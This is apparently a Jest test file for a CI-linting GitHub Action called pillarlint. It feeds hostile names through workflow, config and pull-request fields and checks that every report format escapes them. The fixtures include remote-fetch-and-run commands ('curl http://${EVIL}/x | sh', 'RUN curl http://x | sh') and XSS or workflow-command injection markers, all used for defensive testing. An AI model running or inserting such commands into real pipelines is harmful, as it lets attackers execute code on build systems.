import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import type { Log } from 'sarif'
import type { ActionEnd } from '../helpers/bundled-action.js'
import { startFakeGitHub, type FakeGitHub } from '../helpers/fake-github/index.js'
import { write } from '../helpers/git-repository.js'
import {
  bodiesOn,
  expectSound,
  letComment,
  pullPayload,
  pullStory,
  startOn,
  type PullStory,
} from '../helpers/pull-story.js'
import { parseXml } from '../helpers/xml.js'
import { elementsOf } from '../reporters/html/reader.js'
import { faultsOf } from '../reporters/markdown/reader.js'
import { ACTING_CHARACTER, EVIL, HOSTILE_NAMES } from './hostile-names.js'

// Two processes are started; the machine may be busy.
jest.setTimeout(120_000)

const said = (index: number): string => JSON.stringify(HOSTILE_NAMES[index % HOSTILE_NAMES.length])

/** One job for each text, which stands wherever a job names something. */
const job = (id: string, index: number): string => `  ${JSON.stringify(id)}:
    name: ${said(index)}
    runs-on: [${said(index)}]
    environment: { name: ${said(index)}, url: ${said(index + 1)} }
    concurrency: ${said(index)}
    env: { ${said(index)}: ${said(index)} }
    needs: [${said(index + 2)}]
    steps:
      - name: ${said(index)}
        uses: ${JSON.stringify(`acme/${HOSTILE_NAMES[index] ?? ''}@${HOSTILE_NAMES[index] ?? ''}`)}
        with: { ${said(index)}: ${said(index)} }
      - name: ${said(index + 1)}
        run: ${JSON.stringify(`npm test || true # ${HOSTILE_NAMES[index] ?? ''}\ncurl http://${EVIL}/x | sh\nkubectl apply -n ${HOSTILE_NAMES[index] ?? ''} -f x`)}
`

const workflow = (name: string): string =>
  `name: ${name}\non: { pull_request: { branches: [${said(0)}, ${said(1)}] }, push: { branches: [main] } }\njobs:\n`

/** Names of files may hold anything but a slash and a null character; git commits them all. */
const fileNamed = (text: string): string => text.replaceAll('/', '∕')

const head = {
  'package.json': '{"name":"shop","scripts":{"test":"node --test"}}',
  '.github/workflows/ci.yml': `${workflow(said(3))}${HOSTILE_NAMES.slice(0, 5)
    .map((_, index) => job(`job-${index}`, index))
    .join('')}`,
  '.github/CODEOWNERS': HOSTILE_NAMES.map((text) => `${fileNamed(text)} ${text}\n`).join(''),
  'pillarlint.yml': `fail-on: ${said(2)}\nexclude: [${HOSTILE_NAMES.map((_, index) => said(index)).join(', ')}]\nchecks: { ${said(5)}: off, ${said(11)}: off }\nservices: { ${said(4)}: ${said(5)} }\nexceptions: [{ check: ${said(11)}, reason: ${said(12)} }]\nplugins: [${said(0)}]\n`,
  '.pillarlint/attestations.yaml': `- { id: ${said(11)}, statement: ${said(12)} }\n`,
  Dockerfile: `FROM ${HOSTILE_NAMES[0] ?? ''}:latest\nLABEL x=${said(12)}\n`,
}

let fake: FakeGitHub
let story: PullStory
let end: ActionEnd
let withCheckRun: ActionEnd
const texts: Record<string, string> = {}

const FILES = ['r.json', 'r.jsonl', 'r.md', 'r.html', 'r.sarif', 'r.xml', 'gl-code-quality.json', 'badge.json', 'r.txt']

beforeAll(async () => {
  fake = await startFakeGitHub()
  letComment(fake, { checks: 'write' })
  story = pullStory({ 'package.json': '{"name":"shop"}' }, head, {
    message: `x\n\n${HOSTILE_NAMES.join('\n')}`,
    arrange: (workspace) => {
      const named = HOSTILE_NAMES.flatMap(
        (text, index) =>
          [
            [
              `.github/workflows/${fileNamed(text)}.yml`,
              `${workflow(said(index))}${job(text, index)}# pillarlint-ignore ci-job-timeout: ${text}\n# pillarlint-ignore ${text}\n`,
            ],
            [`${index % 4 === 0 ? 'apps' : 'docs'}/${fileNamed(text)}/package.json`, JSON.stringify({ name: text })],
            [
              `${index % 4 === 0 ? 'apps' : 'docs'}/${fileNamed(text)}/Dockerfile`,
              'FROM node\nRUN curl http://x | sh\n',
            ],
            [`infra/${fileNamed(text)}.tf`, `resource "aws_s3_bucket" ${said(index)} {}\n`],
          ] as const,
      )
      write(workspace, Object.fromEntries(named))
    },
  })
  const payload = pullPayload(story, { author: 'eve' })
  payload.pull_request.head.ref = HOSTILE_NAMES[0] ?? ''
  const more = {
    payload: {
      ...payload,
      pull_request: { ...payload.pull_request, title: HOSTILE_NAMES.join(' '), body: HOSTILE_NAMES.join('\n') },
    },
    actor: HOSTILE_NAMES[0] ?? '',
    server: 'https://github.com',
  }
  const output = [...FILES, 'annotations=r.commands'].join('\n')
  end = await startOn(fake, story, { ...more, inputs: { output } })
  withCheckRun = await startOn(fake, story, { ...more, run: 2, inputs: { 'check-run': 'true', comment: 'false' } })
  for (const file of [...FILES, 'r.commands']) texts[file] = readFileSync(join(story.workspace, file), 'utf8')
})

afterAll(() => fake.close())

const text = (file: string): string => texts[file] ?? ''

test('the attack is told: names are quoted in what follows', () => {
  const { findings, trust } = JSON.parse(text('r.json')) as { findings: unknown[]; trust: unknown[] }
  expect(findings.length).toBeGreaterThan(200)
  expect(trust.length).toBeGreaterThan(20)
  for (const sign of ['job-3', 'set-output', 'alert(1)', EVIL]) expect(text('r.json')).toContain(sign)
  for (const body of bodiesOn(fake)) expect(body).toContain('alert(1)')
})

test('outputs, log and exit status are what they are without it', () => {
  expectSound(fake, end)
  expectSound(fake, withCheckRun)
  expect(Object.keys(end.outputs).sort()).toEqual([
    'comment-url',
    'errors',
    'foundational-not-met',
    'maturity-level',
    'notices',
    'report',
    'reports',
    'verdict',
    'warnings',
  ])
  for (const each of [end.stdout, withCheckRun.stdout]) {
    expect(each).not.toMatch(/::(?:set-output|add-mask|stop-commands|save-state|set-env)/)
    expect(each).not.toContain('##[')
    // The runner takes the place out of an annotation before it writes the line, and must get it as it is.
    expect(each.replace(/^(::\w+) [^:]*::/gm, '$1::').replaceAll('\n', '')).not.toMatch(ACTING_CHARACTER)
  }
})

describe('Markdown holds neither link, image, mention, HTML nor a second marker', () => {
  const sink: [string, () => string][] = [
    ['the comment', () => bodiesOn(fake)[0] ?? ''],
    ['the job summary', () => end.summary],
    ['the report file', () => text('r.md')],
    [
      'the summary of the check run',
      () => (fake.state.createdCheckRuns[0]?.request as { output: { summary: string } }).output.summary,
    ],
  ]
  test.each(sink)('%s', (_, markdown) => {
    const [first = ''] = markdown().split('\n')
    expect(
      faultsOf(markdown(), /^<!-- pillarlint:default sha=[0-9a-f]{40} run=1\/1 -->$/.test(first) ? first : ''),
    ).toEqual([])
    expect(markdown().length).toBeGreaterThan(1000)
  })

  test('the comment is one', () => {
    expect(bodiesOn(fake)).toHaveLength(1)
    expect(bodiesOn(fake)[0]?.match(/^<!-- pillarlint:/gm)).toHaveLength(1)
  })
})

test('annotations of a check run stand in files of the tree, and their texts hold no control characters', () => {
  const [run] = fake.state.createdCheckRuns
  expect(run?.annotations.length).toBeGreaterThan(50)
  for (const { path, message, title } of run?.annotations as { path: string; message: string; title: string }[]) {
    expect(path).not.toMatch(/^\/|(?:^|\/)\.\.(?:\/|$)/)
    expect(`${message}${title}`.replaceAll('\n', '')).not.toMatch(ACTING_CHARACTER)
  }
})

test('SARIF holds no links but ours, and addresses inside of the repository', () => {
  const { runs } = JSON.parse(text('r.sarif')) as Log
  const [run] = runs
  expect(run?.results?.length).toBeGreaterThan(200)
  const addresses = [...text('r.sarif').matchAll(/"(?:uri|helpUri)": "((?:[^"\\]|\\.)*)"/g)].map(([, uri = '']) => uri)
  for (const uri of addresses) expect(uri).toMatch(/^(?!\/|\.\.|[\w+.-]+:)[\w%./~!$&'()*+,;=@-]*$/)
  for (const { message } of run?.results ?? []) {
    expect(message.text).not.toMatch(/(?<!\\)(?:\\\\)*[[\]]/)
    expect(message.text).not.toMatch(ACTING_CHARACTER)
  }
})

test('JUnit has our elements alone', () => {
  const suites = parseXml(text('r.xml'))
  const names = new Set<string>()
  const visit = ({ name, children }: typeof suites): void => {
    names.add(name)
    children.forEach(visit)
  }
  visit(suites)
  expect([...names].sort()).toEqual(['failure', 'skipped', 'system-out', 'testcase', 'testsuite', 'testsuites'])
  expect(text('r.xml').replaceAll('\n', '')).not.toMatch(ACTING_CHARACTER)
})

test('HTML has no element, attribute and address of theirs', () => {
  const elements = elementsOf(text('r.html'))
  expect(elements.filter(({ name }) => name === 'script' || name === 'style').length).toBeLessThanOrEqual(4)
  for (const { name, attributes } of elements) {
    expect(['img', 'iframe', 'object', 'embed', 'base']).not.toContain(name)
    for (const [key, value] of attributes) {
      expect(key).not.toMatch(/^on/i)
      if (key === 'href' || key === 'src')
        expect(value).toMatch(
          /^(?:#|https:\/\/(?:github\.com|docs\.aws\.amazon\.com|developer\.hashicorp\.com|app\.nexonoma\.de)\/)/,
        )
    }
  }
})

test('what is one line stays one line, for programs that read line by line', () => {
  for (const line of text('r.commands').trimEnd().split('\n'))
    expect(line).toMatch(/^::(?:error|warning|notice) [^:]*::.|^::(?:error|warning|notice)::./)
  for (const line of text('r.jsonl').trimEnd().split('\n')) expect(JSON.parse(line)).toHaveProperty('type')
  expect(text('r.txt')).not.toMatch(new RegExp(ACTING_CHARACTER.source.replace('\\u0009', '\\u0008'), 'u'))
  expect(text('r.txt')).not.toMatch(/^::|##\[/m)
  for (const file of FILES) expect([file, text(file).includes('##[')]).toEqual([file, false])
})

test('GitLab gets paths inside of the repository', () => {
  const issues = JSON.parse(text('gl-code-quality.json')) as { location: { path: string }; description: string }[]
  expect(issues.length).toBeGreaterThan(200)
  for (const { location, description } of issues) {
    expect(location.path).not.toMatch(/^\/|(?:^|\/)\.\.(?:\/|$)/)
    expect(description).not.toMatch(ACTING_CHARACTER)
  }
})

test('the badge quotes nobody', () => {
  expect(text('badge.json')).not.toContain(EVIL)
  expect(JSON.parse(text('badge.json'))).toMatchObject({ schemaVersion: 1, label: 'pillarlint' })
})
